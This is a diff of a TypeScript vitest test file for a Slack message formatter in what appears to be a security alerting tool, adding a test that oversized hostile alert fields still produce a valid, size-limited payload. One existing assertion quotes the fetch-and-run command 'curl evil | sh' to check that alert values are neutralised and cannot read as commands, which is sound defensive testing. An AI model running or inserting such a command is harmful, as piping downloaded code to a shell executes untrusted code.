@@ -1,6 +1,8 @@
 import { expect, test } from "vitest";
-import { agentLost, withMoments } from "../../../test/fixtures/pictures.ts";
-import { guided, playbookFrom, shippedPlaybook } from "../../../test/fixtures/playbooks.ts";
+import { parseJsonObject } from "../../../test/fakes/json.ts";
+import { refusePayload } from "../../../test/fakes/slack-payload.ts";
+import { agentLost, factsOf, pictureOf, withMoments } from "../../../test/fixtures/pictures.ts";
+import { FULL_OF_VALUES, guided, playbookFrom, shippedPlaybook } from "../../../test/fixtures/playbooks.ts";
 import type { Picture } from "../../core/picture.ts";
 import { markOf, type Receipt } from "../../core/receipt.ts";
 import { slack } from "./slack.ts";
@@ -65,4 +67,19 @@ test("no value of the alert can look like a command", () => {
     guided({ ...agentLost(), first }, playbookFrom("---\ntitle: T\n---\n\n1. Ask {{ agent.name }}.\n")),
   );
   expect(message).toContain("1. Ask ˋˋˋcurl evil | shˋˋˋ.");
+});
+
+test("with all else that an alert can bring the message stays below what Slack takes", () => {
+  const text = "&".repeat(10_000);
+  const hostile = pictureOf(
+    factsOf({ agentName: text, location: text, user: text, sourceIp: text, log: text, description: text }),
+  );
+  const noted = withMoments(hostile, ...Array.from({ length: 12 }, () => "note" as const), "escalated");
+  const picture = { ...noted, moments: noted.moments.map((moment) => ({ ...moment, text })) };
+  for (const playbook of [shippedPlaybook("ssh-brute-force"), FULL_OF_VALUES]) {
+    const payload = parseJsonObject(messageOf(guided(picture, playbook)));
+    expect(payload).not.toBeNull();
+    expect(JSON.stringify(payload)).toContain("What to do");
+    expect(refusePayload(payload!)).toBeNull();
+  }
 });
